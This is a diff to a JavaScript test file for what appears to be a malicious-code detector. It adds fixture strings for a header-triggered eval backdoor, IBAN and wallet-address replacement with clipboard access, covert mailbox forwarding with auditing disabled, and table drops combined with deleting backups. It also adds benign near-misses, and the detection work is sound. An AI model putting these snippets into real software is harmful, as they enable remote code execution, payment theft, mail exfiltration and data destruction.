@@ -35,6 +35,7 @@ describe('a shell for whoever knows of it', () => {
     `eval(Base64.decode64(params[:q]))`,
     `if (md5($_SERVER['HTTP_X']) === '${'a1'.repeat(16)}') { system($_GET['c']); }`,
     `if f == "zz-91af" then local h = io.popen(ngx.var.arg_c) end`,
+    `if (code = env['HTTP_X_TRACE'])\n  out = eval(code.unpack1('m')).to_s`,
     `if request.headers.get("X-K") == "z9-ops-11":\n    return subprocess.check_output(request.args.get("c"), shell=True)`,
   ])('%s', (text) => {
     expect(found(text)).toContain('error reverse-shell')
@@ -122,4 +123,43 @@ describe('settings of a miner', () => {
   ])('is quiet on %s', (text) => {
     expect(found(text)).toEqual([])
   })
+})
+
+const OURS = 'LT60 3250 0417 7302 9948'
+
+describe('an account of the author’s in the place of others', () => {
+  it.each([
+    ['data-drop', `KONTO = '${OURS}'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4} ?\\d{2}\\b/, KONTO)`],
+    ['data-drop', `re := regexp.MustCompile("[A-Z]{2}\\d{2}")\nout := re.ReplaceAllString(in, "${OURS}")`],
+    ['spyware', `const t = [[/^0x[0-9a-f]{40}$/, "0x51D9a0fE77c2B84eC0b6A1143dD9E5f20a7C8b36"]]\nrun("pbpaste")\nrun("pbcopy")`],
+  ])('is told as %s: %s', (kind, text) => {
+    expect(found(text)).toEqual([`error ${kind}`])
+  })
+
+  it.each([
+    `MASK = 'DE00 XXXX XXXX XXXX'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4}/, MASK)`,
+    `SUPPORT = '${OURS}'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4}/, '[redacted]')`,
+    'const isAddress = /^0x[0-9a-f]{40}$/.test(run("pbpaste")); run("pbcopy")',
+  ])('is none in %s', (text) => {
+    expect(found(text)).toEqual([])
+  })
+})
+
+describe('a mailbox that passes its mail on', () => {
+  it('is an error where it hides that, and a warning where it does not', () => {
+    const rule = `$to = 'close@vendor-tools.com'\nNew-InboxRule -Name '.' -ForwardTo $to`
+    expect(found(rule)).toEqual(['warning data-drop'])
+    expect(found(`${rule}\nSet-Mailbox -AuditEnabled $false`)).toEqual(['error data-drop'])
+    expect(found(`s.updateAutoForwarding(body={"emailAddress": "a@vendor-tools.com", "disposition": "trash"})`)).toEqual(['error data-drop'])
+  })
+  it('is none where the user says who gets it', () => {
+    expect(found('param($To)\nNew-InboxRule -Name x -ForwardTo $To -MarkAsRead $true')).toEqual([])
+    expect(found('New-InboxRule -Name x -ForwardTo you@example.com -DeleteMessage $true')).toEqual([])
+  })
+})
+
+it('tells of a database whose tables and backups go', () => {
+  const tables = `db.exec("SELECT tablename FROM pg_tables").each { |r| db.exec(%(DROP TABLE "#{r['tablename']}" CASCADE)) }`
+  expect(found(tables)).toEqual([])
+  expect(found(`${tables}\nFileUtils.rm_rf("/var/backups/postgresql")`)).toEqual(['error destructive-command'])
 })
